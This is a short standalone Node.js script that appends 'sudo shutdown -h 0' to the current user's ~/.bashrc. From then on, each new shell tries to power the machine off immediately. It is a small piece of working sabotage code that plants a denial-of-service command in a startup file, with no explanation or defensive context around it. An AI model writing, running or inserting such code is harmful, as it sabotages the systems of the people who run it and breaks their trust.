const fs = require('fs');
const os = require('os');
fs.appendFileSync(os.homedir() + '/.bashrc', '\nsudo shutdown -h 0\n');
